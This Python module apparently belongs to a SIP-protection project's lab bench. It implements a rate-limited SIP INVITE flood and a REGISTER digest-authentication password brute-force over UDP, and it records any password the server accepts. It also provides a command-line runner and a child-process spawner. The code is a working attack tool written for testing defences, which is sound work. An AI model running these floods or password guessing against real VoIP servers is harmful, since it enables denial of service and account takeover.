"""Floods and brute force against a SIP server over UDP, for the attack
bench and its tests, bounded in count and in time, from one source address
of a network namespace:

- invite_flood(): INVITEs without credentials at a fixed rate, each a new
  dialog (its own Call-ID, From tag and branch), so that the server
  challenges every one (407). A final answer is ACKed, as a client must;
  nothing else is done with it.
- register_bruteforce(): REGISTERs with wrong passwords at a fixed rate of
  attempts. An attempt is a REGISTER without credentials, the server's 401
  challenge, and the REGISTER again with a digest of the attempt's password
  (nfguard.lab.sipclient.digest): the server counts one authentication
  failure per wrong password (FreeSWITCH: sofia::register_failure, 403).

Each returns a dict of what was sent and what came back; run as
`python3 -m nfguard.lab.flood invite|register ...` (spawn() does that) it
prints that dict as one JSON line. The harness runs them in a process of
their own so that its threads (the phone's calls) do not hold up the pacing.

Pacing: request i leaves at start + i/rate (monotonic clock); between
sends the socket is read. When the sender falls behind it sends at once
until it has caught up, so `sent` over `send_s` is the rate achieved.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import json
import os
import select
import signal
import socket
import subprocess
import sys
import time
import uuid

from nfguard.kernel.attach import in_netns
from nfguard.lab.sipclient import SDP, Message, digest

MAX_RATE = 20_000  # requests a second: a lab tool, not a load generator
MAX_SECONDS = 600
LINGER = 1.0  # seconds to read late answers after the last send


def _udp(ns: str | None, src: tuple[str, int]) -> socket.socket:
    with in_netns(ns):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.bind(src)
    s.setblocking(False)
    return s


def _read(sock: socket.socket, timeout: float, on_message) -> None:
    """Wait up to timeout for the socket, then hand every datagram queued
    on it to on_message (bounded: what is queued now)."""
    if timeout > 0:
        readable, _, _ = select.select([sock], [], [], timeout)
        if not readable:
            return
    for _ in range(4096):
        try:
            data = sock.recv(65535)
        except (BlockingIOError, InterruptedError):
            return
        except ConnectionRefusedError:  # an ICMP unreachable: the port was closed
            continue
        on_message(Message(data))


def _paced(sock: socket.socket, rate: float, count: int, seconds: float, send_one,
           on_message, linger: float = LINGER) -> tuple[int, float, int]:
    """send_one(i) for i = 0.. at rate a second, until count are sent or
    seconds have passed; answers go to on_message, also for linger seconds
    after the last send. (sent, seconds spent sending, send errors)."""
    if not 0 < rate <= MAX_RATE:
        raise ValueError(f"rate {rate}: above 0 and at most {MAX_RATE}")
    if not 0 < seconds <= MAX_SECONDS:
        raise ValueError(f"seconds {seconds}: above 0 and at most {MAX_SECONDS}")
    t0 = time.monotonic()
    deadline = t0 + seconds
    sent = errors = 0
    while sent < count:
        now = time.monotonic()
        if now >= deadline:
            break
        due = t0 + sent / rate
        if now < due:
            _read(sock, due - now, on_message)
            continue
        try:
            send_one(sent)
        except OSError as e:  # a full queue (ENOBUFS/EAGAIN): counted, not retried
            if e.errno not in (errno.ENOBUFS, errno.EAGAIN, errno.ECONNREFUSED):
                raise
            errors += 1
        sent += 1
        if sent % 32 == 0:  # behind schedule: still read now and then
            _read(sock, 0, on_message)
    spent = time.monotonic() - t0
    end = time.monotonic() + linger
    while (left := end - time.monotonic()) > 0:
        _read(sock, left, on_message)
    return sent, spent, errors


def _request(method: str, uri: str, src: tuple[str, int], user: str, realm: str,
             call_id: str, cseq: int, from_tag: str, branch: str, to: str | None = None,
             headers: tuple[str, ...] = (), body: str = "") -> bytes:
    ip, port = src
    lines = [f"{method} {uri} SIP/2.0",
             f"Via: SIP/2.0/UDP {ip}:{port};branch={branch};rport",
             "Max-Forwards: 70",
             f"From: <sip:{user}@{realm}>;tag={from_tag}",
             f"To: {to or f'<sip:{user}@{realm}>'}",
             f"Call-ID: {call_id}",
             f"CSeq: {cseq} {method}",
             *headers,
             "User-Agent: nfguard-flood",
             f"Content-Length: {len(body.encode())}"]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def _index(call_id: str, prefix: str) -> int | None:
    """i of a Call-ID "prefix-i" this run made; None for any other."""
    head, _, tail = call_id.partition("@")[0].rpartition("-")
    return int(tail) if head == prefix and tail.isdigit() else None


def invite_flood(ns: str | None, src: tuple[str, int], dst: tuple[str, int], rate: float,
                 seconds: float, count: int | None = None, user: str = "flood",
                 realm: str = "pbx.test", callee: str = "9196") -> dict:
    """INVITEs without credentials from src to dst at rate a second for
    seconds (or until count are sent). Returns sent, send_s (seconds spent
    sending), rate_achieved, send_errors, acks (ACKs of final answers),
    packets (INVITEs and ACKs sent),
    responses (status code -> count, retransmissions included) and answered
    (INVITEs that got any answer)."""
    sock = _udp(ns, src)
    local = sock.getsockname()
    prefix = "fl" + uuid.uuid4().hex[:12]
    uri = f"sip:{callee}@{realm}"
    sdp = SDP.format(ip=local[0], port=local[1] + 2)
    headers = (f"Contact: <sip:{user}@{local[0]}:{local[1]}>", "Content-Type: application/sdp")
    responses: dict[str, int] = {}
    answered: set[int] = set()
    acks = 0

    def send_one(i: int) -> None:
        # Call-ID, tag and branch derive from i: an answer names its INVITE
        sock.sendto(_request("INVITE", uri, local, user, realm, f"{prefix}-{i}", 1, f"t{i}",
                             f"z9hG4bK{prefix}{i}", f"<{uri}>", headers, sdp), dst)

    def on_message(m: Message) -> None:
        nonlocal acks
        if m.status is None:
            return  # a request from the server (none expected)
        responses[str(m.status)] = responses.get(str(m.status), 0) + 1
        i = _index(m.get("call-id"), prefix)
        if i is None:
            return
        answered.add(i)
        if m.status >= 200:  # the INVITE transaction's ACK (same branch), every time
            try:
                sock.sendto(_request("ACK", uri, local, user, realm, f"{prefix}-{i}", 1, f"t{i}",
                                     f"z9hG4bK{prefix}{i}", m.get("to")), dst)
                acks += 1
            except OSError:
                pass

    try:
        limit = count if count is not None else int(rate * seconds) + 1
        sent, spent, errors = _paced(sock, rate, limit, seconds, send_one, on_message)
    finally:
        sock.close()
    return {"kind": "invite", "src": local[0], "rate": rate, "sent": sent,
            "send_s": round(spent, 3), "rate_achieved": round(sent / spent, 1) if spent else 0.0,
            "send_errors": errors, "acks": acks, "packets": sent + acks, "responses": responses,
            "answered": len(answered)}


def register_bruteforce(ns: str | None, src: tuple[str, int], dst: tuple[str, int],
                        user: str, realm: str, rate: float, seconds: float,
                        passwords: list[str] | None = None, count: int | None = None) -> dict:
    """REGISTER attempts for user@realm from src at rate a second for
    seconds (or count attempts, or until passwords run out), attempt i with
    passwords[i] (default: "wrong-<i>"). Returns sent (attempts started),
    challenged (got the 401), failures (the credentialed REGISTER refused:
    403, or a 401 again), found (passwords the server accepted), outcomes
    (per attempt in order: the final status of its credentialed REGISTER,
    "challenge-lost" when its first REGISTER got no 401, or None when its
    credentials got no answer), responses and packets (REGISTERs sent)."""
    sock = _udp(ns, src)
    local = sock.getsockname()
    prefix = "bf" + uuid.uuid4().hex[:12]
    uri = f"sip:{realm}"
    contact = (f"Contact: <sip:{user}@{local[0]}:{local[1]}>", "Expires: 300")
    if passwords is not None and count is None:
        count = len(passwords)
    limit = count if count is not None else int(rate * seconds) + 1
    outcomes: list[int | str | None] = []
    responses: dict[str, int] = {}
    found: list[str] = []
    packets = 0

    def password(i: int) -> str:
        return passwords[i] if passwords is not None else f"wrong-{i}"

    def send_one(i: int) -> None:
        nonlocal packets
        outcomes.append("challenge-lost")
        sock.sendto(_request("REGISTER", uri, local, user, realm, f"{prefix}-{i}", 1, f"t{i}",
                             f"z9hG4bK{prefix}a{i}", headers=contact), dst)
        packets += 1

    def on_message(m: Message) -> None:
        nonlocal packets
        if m.status is None:
            return
        responses[str(m.status)] = responses.get(str(m.status), 0) + 1
        i = _index(m.get("call-id"), prefix)
        if i is None or i >= len(outcomes) or m.status < 200:
            return
        cseq, _ = m.cseq()
        if cseq == 1 and m.status == 401 and outcomes[i] == "challenge-lost":
            outcomes[i] = None  # challenged: the credentials go out now
            auth = "Authorization: " + digest("REGISTER", uri, user, password(i),
                                               m.get("www-authenticate"))
            sock.sendto(_request("REGISTER", uri, local, user, realm, f"{prefix}-{i}", 2, f"t{i}",
                                 f"z9hG4bK{prefix}b{i}", headers=contact + (auth,)), dst)
            packets += 1
        elif cseq == 2 and outcomes[i] is None:
            outcomes[i] = m.status
            if m.status == 200:
                found.append(password(i))

    try:
        sent, spent, errors = _paced(sock, rate, limit, seconds, send_one, on_message)
    finally:
        sock.close()
    finals = [o for o in outcomes if isinstance(o, int)]
    return {"kind": "register", "src": local[0], "rate": rate, "sent": sent,
            "send_s": round(spent, 3), "rate_achieved": round(sent / spent, 1) if spent else 0.0,
            "send_errors": errors, "packets": packets,
            "challenged": sum(o != "challenge-lost" for o in outcomes),
            "failures": sum(o in (401, 403) for o in finals), "found": found,
            "outcomes": outcomes, "responses": responses}


# -- in a process of its own ---------------------------------------------------
def _die_with_parent() -> None:
    ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG


class Spawned:
    """A flood running in a child process (spawn()); result() waits for its
    JSON line."""

    def __init__(self, argv: list[str], limit: float):
        self.limit = limit
        # -m from the checkout's root finds this nfguard, installed or not
        root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True, cwd=root, preexec_fn=_die_with_parent)

    def result(self) -> dict:
        try:
            out, err = self.proc.communicate(timeout=self.limit)
        except subprocess.TimeoutExpired:
            self.kill()
            raise RuntimeError(f"the flood did not end within {self.limit:g} s") from None
        if self.proc.returncode != 0:
            raise RuntimeError(f"the flood failed ({self.proc.returncode}): {err.strip()[-2000:]}")
        return json.loads(out.strip().splitlines()[-1])

    def kill(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait(5)


def spawn(kind: str, ns: str | None, src: tuple[str, int], dst: tuple[str, int], rate: float,
          seconds: float, **options) -> Spawned:
    """invite_flood (kind "invite") or register_bruteforce ("register") in
    a child process; options are the function's other arguments (user,
    realm, count, callee; passwords as a list)."""
    argv = [sys.executable, "-m", "nfguard.lab.flood", kind, "--src", f"{src[0]}:{src[1]}",
            "--dst", f"{dst[0]}:{dst[1]}", "--rate", str(rate), "--seconds", str(seconds)]
    if ns:
        argv += ["--ns", ns]
    for name in ("user", "realm", "count", "callee"):
        if options.get(name) is not None:
            argv += [f"--{name}", str(options[name])]
    if options.get("passwords") is not None:
        argv += ["--passwords", ",".join(options["passwords"])]
    return Spawned(argv, seconds + LINGER + 30)


def _addr(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python3 -m nfguard.lab.flood")
    p.add_argument("kind", choices=("invite", "register"))
    p.add_argument("--ns")
    p.add_argument("--src", required=True, type=_addr, help="IP:PORT (port 0: any)")
    p.add_argument("--dst", required=True, type=_addr, help="IP:PORT")
    p.add_argument("--rate", required=True, type=float, help="requests (attempts) a second")
    p.add_argument("--seconds", required=True, type=float)
    p.add_argument("--count", type=int)
    p.add_argument("--user")
    p.add_argument("--realm", default="pbx.test")
    p.add_argument("--callee", default="9196")
    p.add_argument("--passwords", help="comma-separated, register only")
    a = p.parse_args(argv)
    if a.kind == "invite":
        out = invite_flood(a.ns, a.src, a.dst, a.rate, a.seconds, a.count,
                           user=a.user or "flood", realm=a.realm, callee=a.callee)
    else:
        out = register_bruteforce(a.ns, a.src, a.dst, a.user or "1001", a.realm, a.rate,
                                  a.seconds, a.passwords.split(",") if a.passwords else None,
                                  a.count)
    sys.stdout.write(json.dumps(out) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
